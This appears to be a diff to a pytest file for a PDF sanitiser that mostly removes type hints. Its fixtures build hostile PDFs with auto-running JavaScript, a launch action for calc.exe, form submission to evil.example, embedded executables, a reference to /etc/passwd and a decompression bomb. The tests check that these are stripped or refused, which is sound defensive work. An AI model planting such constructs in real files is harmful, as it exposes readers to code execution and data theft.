@@ -5,7 +5,6 @@ import subprocess
 import sys
 import time
 import zlib
-from typing import Any
 
 import pikepdf
 import pytest
@@ -17,14 +16,14 @@ from chalicelib.packet.pdf_worker import Refused, check
 from chalicelib.services.ports import PdfRefused
 
 
-def blank(pages: int = 1) -> Any:
+def blank(pages=1):
     pdf = pikepdf.new()
     for _ in range(pages):
         pdf.add_blank_page(page_size=(612, 792))
     return pdf
 
 
-def written(pdf: Any, **options: Any) -> Any:
+def written(pdf, **options):
     made = io.BytesIO()
     pdf.save(made, **options)
     return made.getvalue()
@@ -33,26 +32,26 @@ def written(pdf: Any, **options: Any) -> Any:
 JS = {"/S": Name.JavaScript, "/JS": String("app.alert(1)")}
 
 
-def on_opening(pdf: Any) -> None:
+def on_opening(pdf):
     pdf.Root.OpenAction = pdf.make_indirect(Dictionary(JS))
 
 
-def after_another(pdf: Any) -> None:
+def after_another(pdf):
     last = pdf.make_indirect(Dictionary(JS))
     first = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([last]))
     pdf.Root.OpenAction = pdf.make_indirect(first)
 
 
-def in_the_names(pdf: Any) -> None:
+def in_the_names(pdf):
     tree = Dictionary(Names=Array([String("a"), pdf.make_indirect(Dictionary(JS))]))
     pdf.Root.Names = Dictionary(JavaScript=tree)
 
 
-def on_a_page(pdf: Any) -> None:
+def on_a_page(pdf):
     pdf.pages[0].obj.AA = Dictionary(O=Dictionary(JS))
 
 
-def in_a_field(pdf: Any) -> None:
+def in_a_field(pdf):
     field = Dictionary(
         Type=Name.Annot,
         Subtype=Name.Widget,
@@ -66,42 +65,42 @@ def in_a_field(pdf: Any) -> None:
     pdf.Root.AcroForm = Dictionary(Fields=Array([made]))
 
 
-def link(**action: Any) -> Any:
+def link(**action):
     return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(**action))
 
 
-def starting_a_program(pdf: Any) -> None:
+def starting_a_program(pdf):
     action = {"S": Name.Launch, "F": String("calc.exe")}
     pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link(**action))])
 
 
-def sending_a_form(pdf: Any) -> None:
+def sending_a_form(pdf):
     action = {"S": Name.SubmitForm, "F": String("https://evil.example/")}
     pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link(**action))])
 
 
-def a_link_that_runs(pdf: Any) -> None:
+def a_link_that_runs(pdf):
     action = {"S": Name.URI, "URI": String(" JavaScript:alert(1)")}
     pdf.pages[0].obj.Annots = Array([link(**action)])
 
 
-def carrying_a_file(pdf: Any) -> None:
+def carrying_a_file(pdf):
     pdf.attachments["secret.exe"] = b"MZ"
 
 
-def with_a_note_that_carries(pdf: Any) -> None:
+def with_a_note_that_carries(pdf):
     stream = pdf.make_stream(b"MZ")
     spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
     note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
     pdf.pages[0].obj.Annots = Array([note])
 
 
-def with_a_film(pdf: Any) -> None:
+def with_a_film(pdf):
     note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
     pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])
 
 
-def from_elsewhere(pdf: Any) -> None:
+def from_elsewhere(pdf):
     stream = Stream(pdf, b"")
     stream.F = String("/etc/passwd")
     pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
@@ -137,7 +136,7 @@ WORDS = [
 
 
 @pytest.mark.parametrize(("make", "what"), ACTIVE)
-def test_active_content_is_taken_out_and_named(make: Any, what: Any) -> None:
+def test_active_content_is_taken_out_and_named(make, what):
     pdf = blank()
     make(pdf)
     content = written(pdf)
@@ -151,7 +150,7 @@ def test_active_content_is_taken_out_and_named(make: Any, what: Any) -> None:
     assert check(content, 10) == (pages, removed, cleaned)
 
 
-def test_what_carries_nothing_active_stays_as_it_is() -> None:
+def test_what_carries_nothing_active_stays_as_it_is():
     pdf = blank(3)
     pdf.pages[0].obj.Annots = Array(
         [
@@ -165,7 +164,7 @@ def test_what_carries_nothing_active_stays_as_it_is() -> None:
     assert check(content, 3) == (3, [], content)
 
 
-def test_active_content_in_an_object_stream_is_found() -> None:
+def test_active_content_in_an_object_stream_is_found():
     pdf = blank()
     on_opening(pdf)
     content = written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
@@ -189,12 +188,12 @@ def test_active_content_in_an_object_stream_is_found() -> None:
         (written(blank(), encryption=pikepdf.Encryption(owner="o", user="")), "restricts"),
     ],
 )
-def test_what_is_not_taken_is_refused_with_the_reason(content: Any, why: str) -> None:
+def test_what_is_not_taken_is_refused_with_the_reason(content, why):
     with pytest.raises(Refused, match=why):
         check(content, 3)
 
 
-def test_what_is_no_pdf_is_refused_by_the_web_function_itself() -> None:
+def test_what_is_no_pdf_is_refused_by_the_web_function_itself():
     for content in (b"", b"<html>%PDF-1.7</html>"):
         with pytest.raises(PdfRefused, match="no PDF"):
             check_pdf(content, 3)
@@ -202,14 +201,14 @@ def test_what_is_no_pdf_is_refused_by_the_web_function_itself() -> None:
         check_pdf(b"%PDF-1.7\nhello", 3)
 
 
-def test_a_form_that_a_program_draws_is_refused() -> None:
+def test_a_form_that_a_program_draws_is_refused():
     pdf = blank()
     pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
     with pytest.raises(Refused, match="XFA"):
         check(written(pdf), 3)
 
 
-def test_a_file_that_swells_without_end_is_refused_and_costs_only_its_own_process() -> None:
+def test_a_file_that_swells_without_end_is_refused_and_costs_only_its_own_process():
     """An object stream of a few kilobytes that would need two gigabytes."""
     squeezer = zlib.compressobj(9)
     body = squeezer.compress(b"1 0 " + b" " * 2**20)
@@ -232,21 +231,19 @@ def test_a_file_that_swells_without_end_is_refused_and_costs_only_its_own_proces
     assert time.monotonic() - began < pdf_check.WAIT_SECONDS + 5
 
 
-def test_a_file_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_file_that_takes_too_long_is_refused(monkeypatch):
     monkeypatch.setattr(pdf_check, "WAIT_SECONDS", 0.01)
     with pytest.raises(PdfRefused, match="too much time"):
         check_pdf(written(blank()), 10)
 
 
-def test_the_process_that_checks_is_told_nothing_of_this_one(
-    monkeypatch: pytest.MonkeyPatch,
-) -> None:
+def test_the_process_that_checks_is_told_nothing_of_this_one(monkeypatch):
     """Neither the installation's secret nor its keys to AWS."""
     monkeypatch.setenv("GROUNDSWELL_SECRET", "not-for-the-child")
     seen = {}
     real = subprocess.run
 
-    def watch(command: Any, **options: Any) -> Any:
+    def watch(command, **options):
         seen.update(options["env"])
         return real(command, **options)
 
@@ -255,7 +252,7 @@ def test_the_process_that_checks_is_told_nothing_of_this_one(
     assert set(seen) == {"PATH", "PYTHONPATH"}
 
 
-def test_the_web_function_does_not_load_the_library() -> None:
+def test_the_web_function_does_not_load_the_library():
     code = "import sys, app, chalicelib.bootstrap; print('pikepdf' in sys.modules)"
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert done.stdout.strip() == "False"
